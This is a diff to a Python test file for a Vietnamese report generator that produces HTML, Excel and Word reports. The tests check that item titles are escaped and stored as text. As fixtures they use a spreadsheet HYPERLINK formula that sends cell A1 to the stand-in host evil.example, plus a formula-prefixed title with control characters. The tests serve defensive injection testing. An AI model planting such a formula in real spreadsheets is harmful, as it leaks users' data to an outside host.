@@ -16,18 +16,21 @@ from reports.xlsx import UNSURE_SHEET
 
 HEADING = "Mục cần kiểm tra lại (công cụ chưa chắc chắn)"
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"<b>bấm</b>")'
+CONTROL = "=1+1 Hội nghị\x01 người lao động\x0b"  # control characters XML cannot hold
 REASON_HEADER = "Lý do công cụ chưa chắc chắn"
+ADDED = {"/chua-chac-0", "/chua-chac-1"}
 
 
-def _add_unsure(store, n: int, *, first_title: str | None = None) -> list[str]:
-    """``n`` more website items of May the tool is unsure of; returns their keys."""
+def _add_unsure(store, n: int, *, titles: tuple[str, ...] = ()) -> list[str]:
+    """``n`` more website items of May the tool is unsure of (the first ones with ``titles``);
+    returns their keys."""
     keys = []
     with store.transaction():
         for i in range(n):
             key = f"/chua-chac-{i}"
             store.upsert_item({
                 "source": "website", "key": key, "url": f"https://congdoanhatinh.vn{key}",
-                "title": first_title if (i == 0 and first_title) else f"Hội nghị người lao động số {i}",
+                "title": titles[i] if i < len(titles) else f"Hội nghị người lao động số {i}",
                 "published_utc": f"2025-05-{1 + i % 28:02d}T02:00:00Z", "local_date": f"2025-05-{1 + i % 28:02d}",
                 "date_source": "json-ld", "kind": "news", "kind_reason": "default (news)",
                 "unit_id": "ldld-can-loc", "unit_reason": "byline names «LĐLĐ huyện Can Lộc»",
@@ -41,7 +44,7 @@ def _add_unsure(store, n: int, *, first_title: str | None = None) -> list[str]:
 def written(tmp_path_factory):
     base = tmp_path_factory.mktemp("unsure")
     store, config, _db = make_month(base)
-    _add_unsure(store, 1, first_title=HOSTILE)
+    _add_unsure(store, 2, titles=(HOSTILE, CONTROL))
     paths = write_month(store, config, "2025-05", base / "out", {"html", "xlsx", "docx"})
     store.close()
     return paths
@@ -59,9 +62,9 @@ def test_html_lists_unsure_items_with_their_reasons(written):
     text = written["html"].read_text(encoding="utf-8")
     page = lxml.html.fromstring(text)
     heading = next(h for h in page.cssselect("#chat-luong h3") if HEADING in h.text_content())
-    assert f"{len(UNSURE) + 1} tin, bài" in heading.text_content()
+    assert f"{len(UNSURE) + 2} tin, bài" in heading.text_content()
     rows = _unsure_rows(page)
-    assert set(rows) == {*UNSURE, "/chua-chac-0"}
+    assert set(rows) == {*UNSURE, *ADDED}
     tin2 = rows["/tin-2"]
     cells = {td.get("data-label"): td.text_content().strip() for td in tin2.cssselect("td[data-label]")}
     assert cells["Ngày đăng"] == "02/05/2025"
@@ -75,7 +78,7 @@ def test_html_lists_unsure_items_with_their_reasons(written):
     assert "<b>bấm</b>" not in text and "&lt;b&gt;bấm&lt;/b&gt;" in text
     assert rows["/chua-chac-0"].cssselect("td.title a")[0].text == HOSTILE
     assert not rows["/chua-chac-0"].cssselect("b")
-    assert f"{len(UNSURE) + 1} tin, bài công cụ chưa chắc chắn, cần kiểm tra lại" in text
+    assert f"{len(UNSURE) + 2} tin, bài công cụ chưa chắc chắn, cần kiểm tra lại" in text
 
 
 def test_html_collapses_a_long_list(tmp_path):
@@ -100,7 +103,7 @@ def test_xlsx_sheet_lists_unsure_items_and_keeps_a_hostile_title_text(written):
     assert header[:6] == ["Ngày đăng", "Tiêu đề", "Nguồn", "Loại", "Đơn vị", REASON_HEADER]
     key_col = header.index("Mã (KEY)")
     rows = {r[key_col].value: r for r in ws.iter_rows(min_row=2)}
-    assert set(rows) == {*UNSURE, "/chua-chac-0"}
+    assert set(rows) == {*UNSURE, *ADDED}
     tin2 = rows["/tin-2"]
     assert tin2[0].value.strftime("%d/%m/%Y") == "02/05/2025" and tin2[0].number_format == "dd/mm/yyyy"
     assert [c.value for c in tin2[1:5]] == ["Tin /tin-2", "Website", "Tin", "LĐLĐ huyện Kỳ Anh"]
@@ -111,7 +114,9 @@ def test_xlsx_sheet_lists_unsure_items_and_keeps_a_hostile_title_text(written):
     assert hostile.data_type == "s" and hostile.quotePrefix  # text, never a formula
     assert rows["/chua-chac-0"][header.index("Đường dẫn")].hyperlink.target.endswith("/chua-chac-0")
     summary = {r[0]: r[1] for r in wb["Tổng hợp"].iter_rows(values_only=True) if isinstance(r[0], str)}
-    assert summary["Cần kiểm tra lại (công cụ chưa chắc chắn)"] == len(UNSURE) + 1
+    assert summary["Cần kiểm tra lại (công cụ chưa chắc chắn)"] == len(UNSURE) + 2
+    control = rows["/chua-chac-1"][1]  # the control characters dropped, then kept as text
+    assert control.value == "=1+1 Hội nghị người lao động" and control.quotePrefix
 
 
 # ---------------------------------------------------------------- DOCX
@@ -129,7 +134,8 @@ def test_docx_appendix_lists_unsure_items(written):
     assert d.sections[-1].orientation == WD_ORIENT.LANDSCAPE  # the body stays portrait
     assert d.sections[0].orientation == WD_ORIENT.PORTRAIT
     rows = {r.cells[2].text: [c.text for c in r.cells] for r in table.rows[1:]}
-    assert set(rows) == {"Tin /tin-2", "Tin /tin-10", HOSTILE}  # not /tin-1, nor any other
+    # not /tin-1, nor any other; control characters dropped
+    assert set(rows) == {"Tin /tin-2", "Tin /tin-10", HOSTILE, "=1+1 Hội nghị người lao động"}
     assert rows["Tin /tin-2"][1] == "02/05/2025"
     assert rows["Tin /tin-2"][3:6] == ["Website", "Tin", "LĐLĐ huyện Kỳ Anh"]
     assert BYLINE_FLAG in rows["Tin /tin-2"][6] and WORDS_FLAG in rows["Tin /tin-2"][6]
